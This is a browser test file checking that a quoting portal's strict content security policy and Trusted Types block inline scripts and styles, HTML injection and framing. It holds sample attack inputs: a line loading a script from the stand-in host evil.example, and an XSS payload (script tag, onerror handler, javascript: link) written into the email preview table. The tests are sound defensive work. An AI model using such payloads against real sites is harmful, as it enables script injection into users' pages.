import { emailSending } from '@overland/contracts';
import type { Page } from 'playwright-core';
import { closeBrowser, openPage, openPageAs } from './browser.js';
import { queryAsOwner } from './databases.js';
import { savedQuote, thingsOf } from './own-things.js';
import { call, publicSite, site } from './product.js';
import { tokenFor } from './tokens.js';

const dealer = 'kayla@lonestarmotors.example';
const provider = 'dana@overland.example';

/** Records every violation, from before the first script runs. */
const listener = `
  window.violations = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    violations.push([event.effectiveDirective, event.blockedURI, event.sourceFile, event.sample].join(' ')));
`;

/** Elements of the current page that the policy would block: inline scripts but no blocks of data, style sheets without a nonce. */
const inlineParts = `[
  ...[...document.querySelectorAll('script:not([src], [type="application/ld+json"])')].map((script) => 'script ' + script.textContent.slice(0, 80)),
  ...[...document.querySelectorAll('style')].filter((style) => style.nonce === '').map(() => 'style without nonce'),
]`;

type Visit = [where: string, act?: (page: Page) => Promise<void>];

const openCombobox = async (page: Page) => {
  await page.getByRole('combobox', { name: 'Pickup' }).fill('dalla');
  await page.getByRole('listbox').getByRole('option').first().waitFor();
};
const openKeys = async (page: Page) => {
  await page.keyboard.press('?');
  await page.getByRole('dialog').waitFor();
};
const openDates = async (page: Page) => {
  await page
    .getByRole('button', { name: /from a calendar/ })
    .first()
    .click();
  await page.getByRole('grid').waitFor();
};
const previewEmail = async (page: Page) => {
  await page.getByRole('button', { name: 'Send Email' }).first().click();
  await page.frameLocator('iframe').getByText('ORDER: #').first().waitFor();
};
const showMap = async (page: Page) => {
  const map = page.locator('svg[role=img]').first();
  await map.scrollIntoViewIfNeeded();
};

async function visitsOfDealer(): Promise<Visit[]> {
  const token = await tokenFor(dealer);
  const { _id: quoteId } = await savedQuote(token);
  const { orderId } = await thingsOf(token, 'Strict Policy');
  return [
    [`${site}/get-quote`, openCombobox],
    [`${site}/quotes`, openKeys],
    [`${site}/quote/${quoteId}`, showMap],
    [`${site}/quote/${quoteId}/edit`],
    [`${site}/orders/book/${quoteId}`, openDates],
    [`${site}/orders`],
    [`${site}/order/${orderId}`, showMap],
    [`${site}/order/${orderId}`, previewEmail],
    [`${site}/account`],
  ];
}

const visitsOfProvider: Visit[] = [
  [`${site}/portals`],
  [`${site}/users`],
  [`${site}/get-quote`, openCombobox],
  [`${site}/quotes`],
  [`${site}/orders`, openKeys],
];
const visitsOfAnyone: Visit[] = [
  [`${site}/login`],
  [`${site}/forgot-password`],
  [`${site}/no-such-page`],
  [publicSite, openCombobox],
  [`${publicSite}/no-such-page`],
];

/** Visits each page, opens what can be opened there, and returns what the policy blocked or would block. */
async function findings(page: Page, visits: readonly Visit[]): Promise<string[]> {
  const found: string[] = [];
  await page.addInitScript({ content: listener });
  for (const [address, act] of visits) {
    const answer = await page.goto(address);
    const policy = answer?.headers()['content-security-policy'] ?? '';
    if (!policy.startsWith("default-src 'none'; script-src 'self';"))
      found.push(`${address}: policy ${policy}`);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    await page.locator('[aria-busy=true]').first().waitFor({ state: 'detached' });
    await act?.(page);
    const seen = await page.evaluate<string[]>(`[...violations, ...${inlineParts}]`);
    found.push(...seen.map((each) => `${address}: ${each}`));
  }
  return found;
}

afterAll(closeBrowser);

describe.each(['light', 'dark'] as const)('the strict content security policy, %s', (colorScheme) => {
  it('is not violated by any screen of a portal user, with its dialogs and menus open', async () => {
    const visits = await visitsOfDealer();
    const { page, context } = await openPageAs(dealer, { colorScheme });
    expect(await findings(page, visits)).toEqual([]);
    await context.close();
  }, 120_000);

  it('is not violated by any screen of the provider', async () => {
    const { page, context } = await openPageAs(provider, { colorScheme });
    expect(await findings(page, visitsOfProvider)).toEqual([]);
    await context.close();
  }, 120_000);

  it('is not violated by any public screen', async () => {
    const { page, context } = await openPage({ colorScheme });
    expect(await findings(page, visitsOfAnyone)).toEqual([]);
    await context.close();
  }, 120_000);
});

it('the violation listener sees an inline style of a page', async () => {
  const { page, context } = await openPage();
  await page.addInitScript({ content: listener });
  await page.goto(`${site}/login`);
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  await page.evaluate(`document.body.setAttribute('style', 'color: red')`);
  await page.waitForFunction('violations.length > 0');
  await context.close();
});

it.each([
  ['the staff site', `${site}/login`],
  ['the public site', publicSite],
])('does not render text as HTML on %s, and loads no script from another origin', async (_name, address) => {
  const { page, context } = await openPage();
  await page.goto(address);
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  for (const attempt of [
    `document.body.insertAdjacentHTML('beforeend', '<p>text</p>')`,
    `document.createElement('script').src = 'https://evil.example/a.js'`,
    `trustedTypes.createPolicy('another', {})`,
  ]) {
    await expect(page.evaluate(attempt)).rejects.toThrow(/TrustedHTML|refused|policy/i);
  }
  await context.close();
});

it('T25: an email that would run something runs nothing in its preview, which our own pages alone may frame', async () => {
  const token = await tokenFor(dealer);
  const { emailId, userId } = await thingsOf(token, 'Inert Preview');
  const { body } = await call(emailSending.previewAgain, { params: { emailId } }, { token });
  const attack = `<!doctype html><p>drawn</p><script>document.body.dataset.ran = 1</script>
    <img src="/nothing" onerror="document.body.dataset.ran = 1">
    <a href="javascript:void (document.body.dataset.ran = 1)">link</a>`;
  await queryAsOwner('notifications', 'update email_previews set html = $2 where user_id = $1', [
    userId,
    attack,
  ]);
  const { page, context } = await openPage();
  await page.goto(`${site}/login`);
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  const shown = page.waitForResponse((answer) => answer.url().endsWith(body.page));
  // Without a sandbox, so the page's policy must be enough.
  await page.evaluate(
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${body.page}' }))`,
  );
  const frame = page.frameLocator('iframe');
  await frame.getByText('drawn').waitFor();
  await frame.getByText('link').click();
  expect(await frame.locator('body[data-ran]').count()).toBe(0);
  expect((await shown).headers()['content-security-policy']).toContain("frame-ancestors 'self'");
  await context.close();
});
